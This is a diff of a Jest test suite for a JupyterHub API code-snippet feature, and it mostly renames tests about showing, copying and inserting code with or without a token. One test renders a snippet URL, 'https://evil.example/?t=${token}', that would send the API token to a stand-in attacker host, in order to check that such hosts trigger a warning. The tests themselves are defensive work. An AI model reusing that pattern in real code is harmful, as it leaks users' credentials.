@@ -57,7 +57,7 @@ describe('the shown snippet', () => {
     expect(shown()).toBe(id);
   });
 
-  it('is none when there is none', async () => {
+  it('is missing when there are no snippets', async () => {
     expect(page.model.snippet).toBeNull();
     expect(page.model.place).toBe('anywhere');
     expect(page.model.canInsert).toBe(false);
@@ -67,7 +67,7 @@ describe('the shown snippet', () => {
     expect(await page.model.insert()).toEqual({ kind: 'not-for-notebooks' });
   });
 
-  it('is another one while the chosen one is missing', () => {
+  it('is another one while the remembered one is missing', () => {
     localStorage.setItem(KEY, 'two');
     page.add('curl');
     expect(shown()).toBe('curl');
@@ -136,7 +136,7 @@ describe('the setting for the language', () => {
     expect(localStorage.getItem(KEY)).toBe('one');
   });
 
-  it('may name a custom snippet', () => {
+  it('can name a custom snippet', () => {
     page.set({ language: 'own', custom: [{ name: 'own', code: 'x' }] });
     expect(shown()).toBe('own');
   });
@@ -163,7 +163,7 @@ describe('custom snippets', () => {
     expect(shown()).toBe('curl');
   });
 
-  it('are hidden while another extension’s snippet has the name', () => {
+  it('are hidden while another extension’s snippet has their name', () => {
     page.set({ custom: CUSTOM });
     const added = page.registry.add(
       snippetOf('theirs', { title: trans.__('own') })
@@ -195,14 +195,14 @@ describe('a change', () => {
     ['the place', () => (page.model.place = 'server')],
     ['the token in the code', () => (page.model.includeToken = true)],
     ['the settings', () => page.model.applySettings(true)]
-  ])('is signaled until the model is disposed: %s', (_, change) => {
+  ])('is signaled: %s', (_, change) => {
     page.add('one');
     expect(page.model.isDisposed).toBe(false);
     change();
     expect(page.changed).toHaveBeenCalled();
   });
 
-  it('is not signaled when the model is disposed', async () => {
+  it('is not signaled once the model is disposed', async () => {
     page.add('curl');
     const done = page.model.copy();
     page.model.dispose();
@@ -220,7 +220,7 @@ describe('the place', () => {
     [[], ['anywhere', 'server']],
     [['anywhere'], ['anywhere']],
     [['server'], ['server']]
-  ])('is one that the snippet has: %j', (places, all) => {
+  ])('is one where the snippet can run: %j', (places, all) => {
     page.registry.add(snippetOf('one', { places }));
     expect(page.model.places).toEqual(all);
     expect(page.model.place).toBe(all[0]);
@@ -228,7 +228,7 @@ describe('the place', () => {
     expect(page.model.place).toBe(all[all.length - 1]);
   });
 
-  it('is kept for the next snippet that has it', () => {
+  it('is kept for the next snippet that can run there', () => {
     page.add('both');
     page.registry.add(snippetOf('anywhere', { places: ['anywhere'] }));
     page.model.language = 'both';
@@ -247,23 +247,29 @@ it.each<[ApiToken.Absence | undefined, boolean]>([
   ['hub', true],
   ['unknown', true],
   [undefined, true]
-])('code is useful without a token, because %s: %s', (absence, isUseful) => {
-  expect(page.model.isUseful).toBe(true);
-  page.panel.learnAbsence(absence);
-  expect(page.model.isUseful).toBe(isUseful);
-});
+])(
+  'shows code where the page has no token, because of “%s”: %s',
+  (absence, isUseful) => {
+    expect(page.model.isUseful).toBe(true);
+    page.panel.learnAbsence(absence);
+    expect(page.model.isUseful).toBe(isUseful);
+  }
+);
 
 it.each<[ApiToken.Kind, ApiSnippets.Place, boolean]>([
   ['hub', 'anywhere', true],
   ['server', 'anywhere', true],
   ['none', 'anywhere', false],
   ['hub', 'server', false]
-])('the token can be included, of kind %s for %s: %s', (kind, place, can) => {
-  page.add('one');
-  page.token.kind = kind;
-  page.model.place = place;
-  expect(page.model.canIncludeToken).toBe(can);
-});
+])(
+  'offers to include a token of kind %s in code for %s: %s',
+  (kind, place, can) => {
+    page.add('one');
+    page.token.kind = kind;
+    page.model.place = place;
+    expect(page.model.canIncludeToken).toBe(can);
+  }
+);
 
 describe('shown code', () => {
   const SHOWN = snippetOf('curl', {
@@ -297,11 +303,14 @@ describe('shown code', () => {
   it.each<[ApiToken.Absence, string]>([
     ['open', ''],
     ['unknown', 'null']
-  ])('contains none where there is none, because %s', (absence, token) => {
-    page.token.takeAway();
-    page.panel.learnAbsence(absence);
-    expect(tokenIn(true, true)).toBe(token);
-  });
+  ])(
+    'contains no token where the page has none, because of “%s”',
+    (absence, token) => {
+      page.token.takeAway();
+      page.panel.learnAbsence(absence);
+      expect(tokenIn(true, true)).toBe(token);
+    }
+  );
 
   it.each([
     [
@@ -310,14 +319,14 @@ describe('shown code', () => {
       '/api/contents/a b'
     ],
     [false, 'https://hub.example/user/alice/api/sessions', '/api/sessions']
-  ])('is for the panel’s path: %s', (hasPanel, url, path) => {
+  ])('calls the path in the panel: %s', (hasPanel, url, path) => {
     page.hasPanel = hasPanel;
     page.panel.set({ apiPath: ' api/contents/a b ' });
     page.model.place = 'server';
     expect(text()).toBe(`${url} true ${path} server alice [null]`);
   });
 
-  it('does not give the token to a snippet while masked', () => {
+  it('does not give a snippet the token while it is masked', () => {
     const requests: ApiSnippets.IRequest[] = [];
     page.registry.add(
       snippetOf('all', {
@@ -336,7 +345,7 @@ describe('shown code', () => {
     expect(inspect(requests)).not.toContain(SECRET);
   });
 
-  it('keeps no token in the model', async () => {
+  it('is not kept with the token', async () => {
     tokenIn(true, true);
     await page.model.insert();
     await page.model.copy();
@@ -355,7 +364,7 @@ describe('copying', () => {
     [true, false, 'refused'],
     [false, true, 'copied']
   ])(
-    'without the token needs no panel: %s, allowed: %s',
+    'works without the panel if the code has no token: panel %s, allowed %s',
     async (hasPanel, isAllowed, outcome) => {
       page.hasPanel = hasPanel;
       copied.mockResolvedValue(isAllowed);
@@ -378,7 +387,7 @@ describe('copying', () => {
     ['copied-for-good', false],
     ['refused', false]
   ])(
-    'with the token needs the panel: %s, revealed: %s',
+    'leaves clearing the clipboard to the panel if the code has the token: %s, revealed %s',
     async (outcome, isTokenRevealed) => {
       page.model.includeToken = true;
       page.panel.set({ isTokenRevealed });
@@ -408,7 +417,7 @@ describe('copying', () => {
       },
       '<>'
     ]
-  ])('contains no token %s', async (_, change, token) => {
+  ])('copies no token %s', async (_, change, token) => {
     page.model.includeToken = true;
     change();
     expect(await page.model.copy()).toMatchObject({ holdsToken: false });
@@ -418,21 +427,24 @@ describe('copying', () => {
   it.each([
     [true, ['evil.example']],
     [false, []]
-  ])('names other hosts only with the token: %s', async (holdsToken, hosts) => {
-    page.registry.add(
-      snippetOf('far', {
-        render: ({ token }) => `https://evil.example/?t=${token}`
-      })
-    );
-    page.model.includeToken = holdsToken;
-    const outcome = await page.model.copy({ language: 'far' });
-    expect(outcome).toMatchObject({ holdsToken, otherHosts: hosts });
-    page.model.language = 'far';
-    expect(page.model.otherHosts).toEqual(hosts);
-  });
+  ])(
+    'warns about other hosts only with the token: %s',
+    async (holdsToken, hosts) => {
+      page.registry.add(
+        snippetOf('far', {
+          render: ({ token }) => `https://evil.example/?t=${token}`
+        })
+      );
+      page.model.includeToken = holdsToken;
+      const outcome = await page.model.copy({ language: 'far' });
+      expect(outcome).toMatchObject({ holdsToken, otherHosts: hosts });
+      page.model.language = 'far';
+      expect(page.model.otherHosts).toEqual(hosts);
+    }
+  );
 
   it.each(['https://%s.evil.example/', 'https://%s'])(
-    'does not name the token as a host: %s',
+    'does not show the token as the name of a host: %s',
     async url => {
       const secret = '0123456789abcdef';
       page.token.read = () => secret;
@@ -511,7 +523,7 @@ describe('inserting', () => {
     [true, false],
     [true, true]
   ])(
-    'never contains the token, included: %s, revealed: %s',
+    'never inserts the token: included %s, revealed %s',
     async (includeToken, isTokenRevealed) => {
       page.model.includeToken = includeToken;
       page.panel.set({ apiPath: '/api/me', isTokenRevealed });
@@ -526,7 +538,7 @@ describe('inserting', () => {
     }
   );
 
-  it('needs no token where the server requires none', async () => {
+  it('inserts code without a token where the server requires none', async () => {
     page.panel.learnAbsence('open');
     await page.model.insert();
     expect(page.inserter.insert.mock.calls[0][0]).toBe('/api/sessions server ');
@@ -554,7 +566,7 @@ describe('inserting', () => {
     ['1.5.1', ['anywhere'], 'silent-hub'],
     ['2.0.0', ['anywhere', 'server'], 'inserted']
   ])(
-    'needs JupyterHub 2.0, which tells a server its URL: %s',
+    'needs JupyterHub 2.0, where a server knows its own URL: %s',
     async (hubVersion, places, kind) => {
       page.panel.set({ facts: { state: 'works', hubVersion } });
       expect(page.model.places).toEqual(places);
@@ -600,7 +612,7 @@ describe('with another token than the page’s', () => {
   });
 
   it.each([true, false])(
-    'it is in the code at once, used first: %s',
+    'it is in the code at once, before the snippets are shown: %s',
     isFirst => {
       page.token.kind = 'none';
       if (isFirst) {
@@ -622,27 +634,30 @@ describe('with another token than the page’s', () => {
     ['anywhere', false],
     ['anywhere', true],
     ['server', false]
-  ])('the choices return after it: %s, %s', (place, includeToken) => {
-    page.model.place = place;
-    page.model.includeToken = includeToken;
-    page.registry.useToken(other);
-    page.model.place = 'server';
-    page.model.includeToken = false;
-    // Neither of these is a new choice.
-    other.reveal();
-    page.add('two');
-    expect(page.model.place).toBe('server');
-    expect(page.model.includeToken).toBe(false);
-    page.registry.useToken(new OtherToken('weekly', 'w33kly'));
-    page.changed.mockClear();
-    page.model.usePageToken();
-    expect(page.changed).toHaveBeenCalledTimes(1);
-    expect(page.registry.otherToken).toBeNull();
-    expect(page.model.place).toBe(place);
-    expect(page.model.includeToken).toBe(includeToken);
-  });
+  ])(
+    'the earlier choices return with the page’s token: %s, %s',
+    (place, includeToken) => {
+      page.model.place = place;
+      page.model.includeToken = includeToken;
+      page.registry.useToken(other);
+      page.model.place = 'server';
+      page.model.includeToken = false;
+      // Neither of these is a new choice.
+      other.reveal();
+      page.add('two');
+      expect(page.model.place).toBe('server');
+      expect(page.model.includeToken).toBe(false);
+      page.registry.useToken(new OtherToken('weekly', 'w33kly'));
+      page.changed.mockClear();
+      page.model.usePageToken();
+      expect(page.changed).toHaveBeenCalledTimes(1);
+      expect(page.registry.otherToken).toBeNull();
+      expect(page.model.place).toBe(place);
+      expect(page.model.includeToken).toBe(includeToken);
+    }
+  );
 
-  it('each is revealed separately', () => {
+  it('each of the two is revealed separately', () => {
     page.model.includeToken = true;
     page.registry.useToken(other);
     page.panel.set({ isTokenRevealed: true });
